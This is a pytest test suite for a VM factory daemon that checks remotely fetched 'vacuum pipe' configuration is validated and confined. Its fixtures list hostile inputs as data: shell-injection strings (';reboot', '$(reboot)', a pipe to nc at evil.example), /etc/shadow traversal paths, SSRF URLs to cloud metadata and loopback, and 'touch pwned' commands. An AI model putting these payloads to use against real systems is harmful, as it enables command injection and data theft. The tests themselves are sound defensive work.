"""Hostile vacuum pipes (issue 11 item 2): every field of a pipe is validated at the edge.

Behaviour reference §8 (vacuum pipes) and §11 (Vac 03's shell injection and pipe paths).
The table tests run every pipe field against every class of hostile value through the real
`vacd.pipes.expand_pipe`; the property test feeds `apply_pipes` arbitrary documents built
from the same values; the factory test fetches a hostile pipe from a real loopback HTTP
server through vacd.pipefetch and runs the real Factory on what it yields.

The property test's example count is $VAC_PIPE_FUZZ_EXAMPLES (default 150, a few seconds);
set it to e.g. 20000 for a long run.
"""

from __future__ import annotations

import dataclasses
import json
import os
import random
import re
from pathlib import Path
from typing import Any, Iterator

import pytest
from hypothesis import HealthCheck, given, settings as hypothesis_settings, strategies as st

from tests.fakes import FakeBackend, InlineExecutor, ManualClock
from tests.vacd.loopback_http import LoopbackServer, ScriptedRequest, answer
from vacd.config import Config, Machinetype, effective_config_text, load_config
from vacd.configparse import parse_config
from vacd.configvalues import CVMFS_REPOSITORY, SAFE_ABSOLUTE_PATH
from vacd.reloadingconfig import ReloadingConfig
from vacd.factory import Factory, FactoryHooks
from vacd.paths import Paths
from vacd.pipes import (FAIL_CLOSED_OPTIONS, MAX_PIPE_MACHINETYPE_NAME_CHARS, MAX_PIPE_MACHINETYPES,
                        MAX_PIPE_VALUE_CHARS, MAX_PIPE_WARNINGS, PIPE_FILE_NAME, PIPE_OPTIONS, apply_pipes,
                        expand_pipe, rejection)
from vacd.store import Store

PIPE_URL = "https://pipes.example.org/ex.json"
PURE_PATHS = Paths(Path("/prefix"))
VAC_CONF = f"""[settings]
vac_space = vac01.example.org
factory_name = f1.example.org

[vacuum_pipe ex]
vacuum_pipe_url = {PIPE_URL}
target_share = 10
"""
TEN_MB = 10 * 1000 * 1000

# One value of each class a hostile (or broken) pipe may send.
HOSTILE: dict[str, Any] = {
    "semicolon": "x;reboot",
    "command_substitution": "$(reboot)",
    "backticks": "`reboot`",
    "shell_pipe": "x|nc evil.example 1",
    "newline": "x\nreboot",
    "carriage_return": "x\rreboot",
    "nul": "x\x00y",
    "escape_sequence": "x\x1b[2Jy",
    "bidi_override": "x\u202egpj.exe",
    "look_alike": "\u0430tlas",  # Cyrillic a
    "fullwidth_slash": "a\uff0fb",
    "parent": "../../etc/shadow",
    "dotdot": "..",
    "dot": ".",
    "absolute": "/etc/shadow",
    "cvmfs_escape": "/cvmfs/../etc/shadow",
    "leading_dash": "-oProxyCommand=reboot",
    "huge": "a" * TEN_MB,
    "huge_integer": 10**40,
    "null": None,
    "false": False,
    "list": ["x.iso"],
    "object": {"x": "y"},
    "infinity": float("inf"),
}

# The pipe fields a machinetype takes: every whitelisted option but the two handled apart.
FIELDS = sorted(PIPE_OPTIONS - {"suffix", "target_share"}) + ["user_data_file_x", "user_data_option_x"]

_TEXT_CLASSES = {"semicolon", "command_substitution", "backticks", "shell_pipe", "parent", "dotdot", "dot",
                 "absolute", "cvmfs_escape", "leading_dash"}
# What a field may take from the hostile list, and why that is safe. Every other pair is refused.
ACCEPTED: dict[str, set[str]] = {
    # Substituted into user_data only: the guest's own data, never a path or an argv word.
    "user_data_option_x": _TEXT_CLASSES | {"newline", "carriage_return", "look_alike", "fullwidth_slash",
                                           "huge_integer"},
    # Searched in a signer's DN (re.search) only; a DN has / and = and spaces.
    "image_signing_dn": {"semicolon", "command_substitution", "backticks", "shell_pipe", "parent", "dotdot",
                         "dot", "absolute", "cvmfs_escape", "leading_dash"},
    # A path inside the container, never on the host: any absolute path of safe characters.
    "container_command": {"absolute"},
    "tmp_binds": {"absolute"},
    # An FQAN is /vo/group: text in an APEL record and the accounting_fqan file, never a path.
    "accounting_fqan": {"absolute"},
    # Yes/no options take JSON booleans.
    "legacy_proxy": {"false"},
    "user_data_proxy": {"false"},
}
CASES = [(field, value_class) for field in FIELDS for value_class in HOSTILE]


def config_of(text: str = VAC_CONF, paths: Paths = PURE_PATHS) -> Config:
    return parse_config([("/etc/vac.conf", text)], host_fqdn="f1.example.org", host_cpu_count=4, paths=paths)


GOOD_ENTRY = {"suffix": "good", "target_share": 1, "root_image": "good.iso", "user_data": "user_data",
              "max_wallclock_seconds": 3600}
BAD_BASE = {"suffix": "bad", "target_share": 1, "root_image": "bad.iso", "user_data": "user_data"}


def assert_readable(warning: str) -> None:
    """A warning a log can take: short, printable, one line."""
    assert len(warning) < 1000 and warning.isprintable(), repr(warning[:200])


@pytest.mark.parametrize("field, value_class", CASES, ids=[f"{field}-{value_class}" for field, value_class in CASES])
def test_hostile_value_in_any_field_is_refused_naming_pipe_and_field(field: str, value_class: str) -> None:
    config = config_of()
    pipe = config.vacuum_pipes[0]
    value = HOSTILE[value_class]
    document = {"machinetypes": [GOOD_ENTRY, dict(BAD_BASE, **{field: value})]}
    expansion = expand_pipe(pipe, document, config)
    for warning in expansion.warnings:
        assert_readable(warning)
    # The rest of the pipe is untouched: the good entry gives what it would without the bad one's field.
    without_field = {key: base_value for key, base_value in BAD_BASE.items() if key != field}
    alone = expand_pipe(pipe, {"machinetypes": [GOOD_ENTRY, without_field]}, config)
    assert expansion.machinetypes["ex-good"] == alone.machinetypes["ex-good"]
    about_field = [warning for warning in expansion.warnings
                   if warning.startswith(f"{PIPE_URL}: [machinetype ex-bad] {field}: ")
                   and (": ignored: " in warning or ": not created: " in warning)]
    if value_class in ACCEPTED.get(field, set()):
        assert not about_field, about_field
        return
    assert about_field, expansion.warnings
    if field in FAIL_CLOSED_OPTIONS:
        assert "ex-bad" not in expansion.machinetypes
    else:
        # Dropped alone: the machinetype is what it would be had the pipe not sent the field
        # (none at all for root_image, as a type with a share and no image is not made).
        assert expansion.machinetypes.get("ex-bad") == alone.machinetypes.get("ex-bad")
        assert ("ex-bad" in expansion.machinetypes) == (field != "root_image")


# (An integer suffix is Vac 03's str() of it, and 10**40 makes a good name: ex-1000...)
@pytest.mark.parametrize("value_class", sorted(set(HOSTILE) - {"huge_integer"}))
def test_hostile_suffix_costs_only_its_entry(value_class: str) -> None:
    config = config_of()
    expansion = expand_pipe(config.vacuum_pipes[0], {"machinetypes": [
        GOOD_ENTRY, dict(BAD_BASE, suffix=HOSTILE[value_class])]}, config)
    assert sorted(expansion.machinetypes) == ["ex-good"]
    assert [warning for warning in expansion.warnings
            if warning.startswith(f"{PIPE_URL}: [vacuum_pipe ex] suffix: ignored an entry")]
    for warning in expansion.warnings:
        assert_readable(warning)


def test_suffix_that_makes_a_name_too_long_for_directory_names_is_refused() -> None:
    config = config_of()
    longest = "s" * (MAX_PIPE_MACHINETYPE_NAME_CHARS - len("ex-"))
    expansion = expand_pipe(config.vacuum_pipes[0], {"machinetypes": [
        dict(GOOD_ENTRY, suffix=longest), dict(GOOD_ENTRY, suffix=longest + "s"), dict(GOOD_ENTRY, suffix=10**80)]},
        config)
    assert sorted(expansion.machinetypes) == [f"ex-{longest}"]
    assert any(f"at most {MAX_PIPE_MACHINETYPE_NAME_CHARS} characters" in warning for warning in expansion.warnings)


@pytest.mark.parametrize("value_class", sorted(HOSTILE))
def test_hostile_target_share_counts_as_0_with_a_warning(value_class: str) -> None:
    config = config_of()
    expansion = expand_pipe(config.vacuum_pipes[0], {"machinetypes": [
        GOOD_ENTRY, dict(BAD_BASE, target_share=HOSTILE[value_class])]}, config)
    assert expansion.machinetypes["ex-good"].target_share == 10.0
    assert expansion.machinetypes["ex-bad"].target_share == 0.0
    assert any(warning.startswith(f"{PIPE_URL}: [machinetype ex-bad] target_share: counted as 0")
               for warning in expansion.warnings)


@pytest.mark.parametrize("value_class", [name for name, value in HOSTILE.items() if isinstance(value, str)])
def test_hostile_key_is_refused_and_quoted_harmlessly(value_class: str) -> None:
    config = config_of()
    expansion = expand_pipe(config.vacuum_pipes[0], {"machinetypes": [
        GOOD_ENTRY, dict(BAD_BASE, **{HOSTILE[value_class]: "x"})]}, config)
    assert sorted(expansion.machinetypes) == ["ex-bad", "ex-good"]
    refused = [warning for warning in expansion.warnings if "not accepted from a vacuum pipe" in warning]
    assert len(refused) == 1 and refused[0].startswith(f"{PIPE_URL}: [machinetype ex-bad] ")
    assert_readable(refused[0])


def test_look_alike_key_does_not_set_the_option_it_resembles() -> None:
    config = config_of()
    # "\u212a" (KELVIN SIGN) lower-cases to "k" in Unicode, not in vac.conf's ASCII rules.
    expansion = expand_pipe(config.vacuum_pipes[0], {"machinetypes": [
        dict(GOOD_ENTRY, **{"bac\u212aoff_seconds": 5})]}, config)
    assert expansion.machinetypes["ex-good"].backoff_seconds == 10


@pytest.mark.parametrize("document", [[], "machinetypes", 7, None, True, {"machinetypes": "all"},
                                      {"machinetypes": {"suffix": "a"}}, {"machinetypes": [[], "x", 1, None]}])
def test_document_of_the_wrong_shape_gives_nothing_and_never_raises(document: Any) -> None:
    config = config_of()
    applied = apply_pipes(config, {"ex": document})
    assert applied.machinetypes == config.machinetypes
    assert all(warning.startswith(f"{PIPE_URL}: [vacuum_pipe ex]") for warning in applied.warnings)


def test_pipe_with_too_many_entries_is_cut_and_warnings_are_bounded() -> None:
    config = config_of()
    entries = [dict(GOOD_ENTRY, suffix=f"m{index}", **{f"junk{index}_{key}": 1 for key in range(5)})
               for index in range(MAX_PIPE_MACHINETYPES * 3)]
    expansion = expand_pipe(config.vacuum_pipes[0], {"machinetypes": entries}, config)
    assert len(expansion.machinetypes) == MAX_PIPE_MACHINETYPES
    assert len(expansion.warnings) == MAX_PIPE_WARNINGS + 1
    assert expansion.warnings[0].endswith(f"only the first {MAX_PIPE_MACHINETYPES} of {len(entries)} entries are used")
    unshown = 1 + MAX_PIPE_MACHINETYPES * 5 - MAX_PIPE_WARNINGS  # the cut, then five junk keys per entry used
    assert expansion.warnings[-1] == f"{PIPE_URL}: [vacuum_pipe ex]: {unshown} more warnings not shown"


@pytest.mark.parametrize("pattern, allowed", [
    ("^/DC=ch/DC=cern/OU=computers/CN=cvm-sign0[0-9]\\.cern\\.ch$", True),
    ("/CN=.*cern.*", True),
    (".*.*.*z", False),
    ("(a|aa)*c", False),
    ("(x+)+$", False),
    ("a{2,}b{3,}c+", False),
    ("\\.\\*\\.\\*\\.\\*", True),  # escaped: literal dots and stars
    (".{0,999}.{0,999}.{0,999}z", False),
    ("a?" * 30 + "a" * 30, False),
    ("(?:/DC=ch)?/CN=.*?cern.*", False),
    ("^(?:/DC=ch)/CN=.*?cern", True),
    ("/OU=Users?/CN=.*", True),
    ("(unclosed", False),
])
def test_pipe_dn_pattern_that_could_take_hours_to_match_is_refused(pattern: str, allowed: bool) -> None:
    assert (rejection("image_signing_dn", pattern) is None) == allowed


@pytest.mark.parametrize("option, text, allowed", [
    ("root_image", "https://example.org/" + "x" * 200, True),
    ("root_image", "https://example.org/" + "x" * 300, False),  # its image cache file name would be too long
    ("root_image", "https://example.org/a b.iso", False),
    ("root_image", "http://127.0.0.1:9100/metrics", False),  # the factory's own services
    ("user_data", "http://169.254.169.254/latest/meta-data/", False),  # link-local metadata
    ("user_data", "http://10.1.2.3/user_data", False),
    ("user_data", "http://[::1]/user_data", False),
    ("user_data", "http://localhost/user_data", False),
    ("user_data", "http://2130706433/user_data", False),  # 127.0.0.1 to a resolver
    ("user_data", "http://0x7f.1/user_data", False),
    ("user_data", "https://lhcb.example.org@127.0.0.1/user_data", False),
    ("user_data", "http://[fe80::zz]/user_data", False),
    ("user_data", "http://192.0.2.1.nip.io/user_data", True),  # a name: resolution is not checked
    ("user_data", "https://8.8.8.8/user_data", True),
    ("user_data", "https://lhcb-portal.cern.ch:8443/user_data?x=1", True),
    ("root_image", "/cvmfs/unpacked.cern.ch/registry/image", True),
    ("root_image", "/cvmfs/x/a;b", False),
    ("root_image", "docker://-x", False),
    ("user_data", "-rf", False),
    ("user_data", ".hidden", False),
    ("user_data_file_x", "x509.pem", True),
    ("heartbeat_file", "-", False),
    ("container_command", "/user_data", True),
    ("container_command", "/bin/sh;reboot", False),
    ("container_command", "user_data", False),
    ("tmp_binds", "/scratch /tmp/x", True),
    ("tmp_binds", "/scratch /tmp/../etc", False),
    ("accounting_fqan", "/lhcb/Role=pilot/Capability=NULL", True),
    ("accounting_fqan", "/lhcb Role=pilot", False),
    ("root_device", "vda", True),
    ("root_device", "v" * 17, False),
    ("cvmfs_repositories", "atlas.cern.ch -x", False),
    ("user_data_option_x", "line\nline\ttab", True),
    ("user_data_option_x", "x" * (64 * 1024 + 1), False),
    ("max_processors", "1" * (MAX_PIPE_VALUE_CHARS + 1), False),
])
def test_pipe_value_checks_beyond_vac_conf(option: str, text: str, allowed: bool) -> None:
    assert (rejection(option, text) is None) == allowed


# --- property: any document, confined output -------------------------------------------------

FUZZ_EXAMPLES = int(os.environ.get("VAC_PIPE_FUZZ_EXAMPLES") or 150)

_SMALL_HOSTILE = [value if not (isinstance(value, str) and len(value) > 1000) else "a" * (MAX_PIPE_VALUE_CHARS + 1)
                  for value in HOSTILE.values()]
_PLAUSIBLE = ["x.iso", "good.iso", "user_data", "https://example.org/x.iso", "http://h/../x", "/cvmfs/a.cern.ch/x",
              "docker://repo/image:1", "vda", "1", "0", "3600", "true", "cernvm3", "vm-raw", "docker", "/scratch",
              "atlas.cern.ch", "/lhcb/Role=pilot", "hb", "a" * 64, "0" * 64, "/DC=ch/CN=x", ".*"]
SCALARS = st.one_of(st.sampled_from(_SMALL_HOSTILE + _PLAUSIBLE), st.none(), st.booleans(), st.integers(),
                    st.floats(), st.text(max_size=30))
JSON_VALUES = st.recursive(SCALARS, lambda children: st.lists(children, max_size=3)
                           | st.dictionaries(st.text(max_size=8), children, max_size=3), max_leaves=8)
KEYS = st.one_of(st.sampled_from(FIELDS + ["suffix", "target_share", "machinegroup", "machinetype_path",
                                           "root_kernel", "USER_DATA", "user_data_file_../x"]), st.text(max_size=12))
ENTRIES = st.dictionaries(KEYS, JSON_VALUES, max_size=8).map(
    lambda entry: entry if "suffix" in entry else dict(entry, suffix="s"))
DOCUMENTS = st.one_of(JSON_VALUES, st.fixed_dictionaries(
    {"machinetypes": st.lists(st.one_of(ENTRIES, JSON_VALUES), max_size=5)},
    optional={"cache_seconds": JSON_VALUES}))

_PRINTABLE_ASCII = re.compile(r"[ -~]*")


def _confined_name(machinetype: Machinetype, name: str, *, may_be_cvmfs: bool) -> None:
    """A file name from a pipe names a file under files/ or /cvmfs, or is an http(s) URL."""
    if name.startswith(("http://", "https://")):
        assert ".." not in name.split("/") and " " not in name
        return
    if may_be_cvmfs and name.startswith("/cvmfs/"):
        assert SAFE_ABSOLUTE_PATH.fullmatch(name)
        return
    assert PIPE_FILE_NAME.fullmatch(name), name
    resolved = Path(os.path.normpath(machinetype.resolve_file(name)))
    assert resolved.parent == machinetype.machinetype_path / "files"


def assert_confined(config: Config, machinetype: Machinetype) -> None:
    assert machinetype.machinetype_path == config.paths.machinetypes_dir / "ex"
    assert len(machinetype.name) <= MAX_PIPE_MACHINETYPE_NAME_CHARS
    if machinetype.root_image is not None and not machinetype.root_image.startswith("docker://"):
        _confined_name(machinetype, machinetype.root_image, may_be_cvmfs=True)
    if machinetype.user_data is not None:
        _confined_name(machinetype, machinetype.user_data, may_be_cvmfs=False)
    for file_name in machinetype.user_data_files.values():
        _confined_name(machinetype, file_name, may_be_cvmfs=False)
    assert machinetype.root_kernel is None and machinetype.root_initrd is None  # never from a pipe
    assert machinetype.heartbeat_file is None or PIPE_FILE_NAME.fullmatch(machinetype.heartbeat_file)
    assert SAFE_ABSOLUTE_PATH.fullmatch(machinetype.container_command)
    assert all(SAFE_ABSOLUTE_PATH.fullmatch(path) for path in machinetype.tmp_binds)
    assert all(CVMFS_REPOSITORY.fullmatch(name) for name in machinetype.cvmfs_repositories)
    for pipe_field in dataclasses.fields(machinetype):
        value = getattr(machinetype, pipe_field.name)
        for text in (value if isinstance(value, tuple) else [value]):
            if isinstance(text, str):
                assert len(text) <= MAX_PIPE_VALUE_CHARS and _PRINTABLE_ASCII.fullmatch(text), pipe_field.name
    assert all(_PRINTABLE_ASCII.fullmatch(name) for name in machinetype.user_data_options)


@hypothesis_settings(max_examples=FUZZ_EXAMPLES, deadline=None,
                     suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(document=DOCUMENTS)
def test_any_document_yields_confined_machinetypes_that_pass_the_vac_conf_checks(document: Any) -> None:
    config = config_of()
    applied = apply_pipes(config, {"ex": document})
    for warning in applied.warnings:
        assert_readable(warning)
        assert warning.startswith(f"{PIPE_URL}: [") or warning in config.warnings
    generated = {name: machinetype for name, machinetype in applied.machinetypes.items() if name.startswith("ex-")}
    for machinetype in generated.values():
        assert machinetype.vacuum_pipe == "ex"
        assert_confined(config, machinetype)
    # Everything the pipe gave passes vac.conf's own checks: the effective configuration,
    # read back as a site's vac.conf, gives the same machinetypes (secrets are masked there).
    again = config_of(effective_config_text(applied))
    for name, machinetype in generated.items():
        assert dataclasses.replace(again.machinetypes[name], user_data_options={}) == dataclasses.replace(
            machinetype, vacuum_pipe=None, user_data_options={})


# --- the real fetch edge and the real factory ------------------------------------------------

HOSTILE_PIPE = {"cache_seconds": 3600, "machinetypes": [
    {"suffix": "good", "target_share": 1, "machine_model": "cernvm3", "root_image": "good.iso",
     "max_wallclock_seconds": 3600},
    # Each entry below tries to reach a host path or an argv; none may become a machine.
    {"suffix": "abs", "target_share": 1, "machine_model": "vm-raw", "root_image": "/etc/shadow"},
    {"suffix": "climb", "target_share": 1, "root_image": "/cvmfs/../etc/shadow", "user_data": "../../etc/shadow"},
    {"suffix": "inject", "target_share": 1, "root_image": "$(touch pwned).iso", "user_data_file_x": "-rf",
     "heartbeat_file": "../../../../tmp/pwned", "container_command": "/bin/sh -c 'touch pwned'",
     "root_device": "vda/../../etc", "accounting_fqan": "/vo\nFQAN: /stolen"},
    {"suffix": "unchecked", "target_share": 1, "root_image": "good.iso", "root_image_sha256": "`reboot`"},
    {"suffix": "../../../etc", "target_share": 1, "root_image": "good.iso"},
    {"suffix": "nul\x00", "target_share": 1, "root_image": "good.iso"},
    {"suffix": "huge", "target_share": 1, "root_image": "x" * 100_000},
]}


@pytest.fixture
def hostile_pipe_server() -> Iterator[LoopbackServer]:
    def respond(request: ScriptedRequest) -> None:
        answer(request, json.dumps(HOSTILE_PIPE).encode())

    server = LoopbackServer(respond)
    try:
        yield server
    finally:
        server.stop()


def test_factory_fed_a_hostile_pipe_keeps_running_and_creates_only_the_good_machinetype(
        tmp_path: Path, hostile_pipe_server: LoopbackServer) -> None:
    paths = Paths(tmp_path)
    paths.ensure_state_dirs()
    (tmp_path / "etc").mkdir(exist_ok=True)
    (tmp_path / "etc/vac.conf").write_text(f"""[settings]
vac_space = vac01.example.com
factory_name = f1.example.com
host_processors = 4
max_creations_per_cycle = 4

[vacuum_pipe ex]
vacuum_pipe_url = {hostile_pipe_server.url("/ex.pipe")}
target_share = 10
""")
    good_image = paths.machinetypes_dir / "ex" / "files" / "good.iso"
    good_image.parent.mkdir(parents=True)
    good_image.write_bytes(b"\0" * 4096)
    initial = load_config(paths, host_fqdn="f1.example.com", host_cpu_count=4)
    source = ReloadingConfig(paths, initial, "f1.example.com", 4)
    source.current()  # starts the fetch on the pipe thread, as the factory's first pass does
    assert source.pipes.wait_for_refreshes(timeout_seconds=30)
    config = source.current()
    assert hostile_pipe_server.paths == ["/ex.pipe"]
    generated = sorted(name for name in config.machinetypes if name.startswith("ex-"))
    # Entries left with no image once their hostile values went, the one asking for an image check
    # it spelt wrong, and those with hostile suffixes are not machinetypes at all.
    assert generated == ["ex-good"]
    for warning in config.warnings:
        assert_readable(warning)
    for name in ("ex-abs", "ex-climb", "ex-inject", "ex-huge"):
        assert any(warning.endswith(f"[machinetype {name}] root_image: not created: it has a target_share but no "
                                    "usable root_image (or local root_kernel)") for warning in config.warnings)

    store = Store(paths)
    backend = FakeBackend()
    clock = ManualClock()
    factory = Factory(store, backend, source, InlineExecutor(), clock=clock, load_average=lambda: 0.0,
                      host_cpu_count=4, vacd_start_time=int(clock()),
                      hooks=FactoryHooks(peer_reports=lambda settings, machinetypes, now: []),
                      tie_break=random.Random(0))
    for _ in range(6):
        report = factory.run_pass()
        assert report.config_error is None and report.observe_error is None
        clock.advance(60)
    created = backend.created_names()
    assert created, "the good machinetype was never created"
    for machine_name in created:
        stored = store.slot_binding(machine_name)
        assert stored is not None and stored.record.machinetype == "ex-good"
        assert backend.specs[machine_name].root_image == good_image
    assert not list(tmp_path.rglob("*pwned*")) and not list(tmp_path.rglob("*shadow*"))
    assert {path.name.split("_")[1] for path in paths.machines_dir.iterdir()} == {"ex-good"}

